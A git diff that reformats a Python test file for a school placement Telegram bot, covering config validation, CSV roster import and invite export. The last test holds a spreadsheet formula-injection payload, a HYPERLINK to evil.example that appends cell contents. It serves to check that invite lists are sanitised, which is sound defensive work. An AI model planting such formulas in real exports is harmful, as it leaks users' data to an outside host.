@@ -15,14 +15,22 @@ from storage.db import migrations
 from tests.conftest import ROSTER
 
 
-def run_cli(*args: str, env: dict[str, str] | None = None,
-            cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
-    clean = {k: v for k, v in os.environ.items()
-             if k not in ("TELEGRAM_BOT_TOKEN", "TIMEZONE", "DATABASE_PATH")}
+def run_cli(
+    *args: str, env: dict[str, str] | None = None, cwd: Path | None = None
+) -> subprocess.CompletedProcess[str]:
+    clean = {
+        k: v
+        for k, v in os.environ.items()
+        if k not in ("TELEGRAM_BOT_TOKEN", "TIMEZONE", "DATABASE_PATH")
+    }
     return subprocess.run(
-        [sys.executable, "-m", "bot", *args], capture_output=True, text=True, timeout=60,
+        [sys.executable, "-m", "bot", *args],
+        capture_output=True,
+        text=True,
+        timeout=60,
         env={**clean, "PYTHONPATH": str(Path(__file__).parent.parent), **(env or {})},
-        cwd=cwd, check=False,
+        cwd=cwd,
+        check=False,
     )
 
 
@@ -36,12 +44,18 @@ def test_a_missing_token_stops_with_exit_2_and_one_line(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     ("name", "value"),
-    [("TIMEZONE", "Europe/Amsterdm"), ("DEFAULT_LANGUAGE", "fr"), ("COORDINATOR_IDS", "abc"),
-     ("TELEGRAM_API_BASE_URL", "localhost:8081"), ("CHECKIN_TIME", "١٤:٠٠"),
-     ("CHECKIN_TIME", "1²:00")],
+    [
+        ("TIMEZONE", "Europe/Amsterdm"),
+        ("DEFAULT_LANGUAGE", "fr"),
+        ("COORDINATOR_IDS", "abc"),
+        ("TELEGRAM_API_BASE_URL", "localhost:8081"),
+        ("CHECKIN_TIME", "١٤:٠٠"),
+        ("CHECKIN_TIME", "1²:00"),
+    ],
 )
-def test_a_malformed_setting_stops_with_exit_2_and_names_it(tmp_path: Path, name: str,
-                                                            value: str) -> None:
+def test_a_malformed_setting_stops_with_exit_2_and_names_it(
+    tmp_path: Path, name: str, value: str
+) -> None:
     result = run_cli("run", env={"TELEGRAM_BOT_TOKEN": "1:x", name: value}, cwd=tmp_path)
     assert result.returncode == 2
     assert result.stderr.count("\n") == 1
@@ -60,15 +74,20 @@ def mode(path: Path) -> int:
 
 
 def test_import_invites_due_migrate_and_backup(tmp_path: Path) -> None:
-    env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3"), "BOT_USERNAME": "school_bot",
-           "CHECKIN_TIME": "14:00"}
+    env = {
+        "DATABASE_PATH": str(tmp_path / "school.sqlite3"),
+        "BOT_USERNAME": "school_bot",
+        "CHECKIN_TIME": "14:00",
+    }
     roster = tmp_path / "roster.csv"
     roster.write_text("\ufeff" + ROSTER.replace(",", ";"), encoding="utf-8")
 
     first = run_cli("import", str(roster), env=env, cwd=tmp_path)
     assert first.returncode == 0, first.stderr
-    assert first.stdout == (f"imported: 3 placements, 7 people; 0 placements were there already; "
-                            f"read {roster} as UTF-8 with BOM, separated by semicolons\n")
+    assert first.stdout == (
+        f"imported: 3 placements, 7 people; 0 placements were there already; "
+        f"read {roster} as UTF-8 with BOM, separated by semicolons\n"
+    )
     assert mode(tmp_path / "school.sqlite3") == 0o600  # created by the import, private at once
     again = run_cli("import", str(roster), env=env, cwd=tmp_path)
     assert again.returncode == 0, again.stderr
@@ -106,10 +125,14 @@ def test_import_invites_due_migrate_and_backup(tmp_path: Path) -> None:
 def test_a_dutch_excel_roster_is_read_and_its_encoding_named(tmp_path: Path) -> None:
     env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3")}
     roster = tmp_path / "bpv.csv"
-    roster.write_bytes((ROSTER.splitlines()[0].replace(",", ";") + "\r\n"
-                        "Emre Özdemir;emre@student.example;Zoë van IJsselmeer;zoe@b.example;"
-                        "Bakkerij ’t Hoekje;Ingrid Bos;ingrid@school.example;2-3-2026;26-6-2026"
-                        "\r\n").encode("cp1252"))
+    roster.write_bytes(
+        (
+            ROSTER.splitlines()[0].replace(",", ";") + "\r\n"
+            "Emre Özdemir;emre@student.example;Zoë van IJsselmeer;zoe@b.example;"
+            "Bakkerij ’t Hoekje;Ingrid Bos;ingrid@school.example;2-3-2026;26-6-2026"
+            "\r\n"
+        ).encode("cp1252")
+    )
     result = run_cli("import", str(roster), env=env, cwd=tmp_path)
     assert result.returncode == 0, result.stderr
     assert result.stdout.endswith(f"read {roster} as Windows-1252, separated by semicolons\n")
@@ -142,19 +165,20 @@ def test_a_broken_roster_gets_line_errors_and_writes_nothing(tmp_path: Path) -> 
 def test_a_file_in_no_known_encoding_is_one_line(tmp_path: Path) -> None:
     roster = tmp_path / "roster.xlsx"
     roster.write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\x81\x8d\x8f")
-    result = run_cli("import", str(roster), env={"DATABASE_PATH": str(tmp_path / "s.sqlite3")},
-                     cwd=tmp_path)
+    result = run_cli(
+        "import", str(roster), env={"DATABASE_PATH": str(tmp_path / "s.sqlite3")}, cwd=tmp_path
+    )
     assert result.returncode == 1
     assert result.stderr.splitlines() == [
         'line 1: the file is neither UTF-8 nor Windows-1252; save it from Excel as "CSV UTF-8"',
         f"nothing imported: 1 bad rows (fix them, or use --skip-bad-rows); {roster} is no text "
-        "file Excel saves"]
+        "file Excel saves",
+    ]
 
 
 def test_invite_lists_never_hold_a_formula(tmp_path: Path) -> None:
     env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3"), "BOT_USERNAME": "school_bot"}
-    names = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 6 12345678", "@Sanne",
-             "-Daan"]
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 6 12345678", "@Sanne", "-Daan"]
     lines = ROSTER.splitlines()
     for index, name in enumerate(names[:3], start=1):
         student = lines[index].split(",")[0]
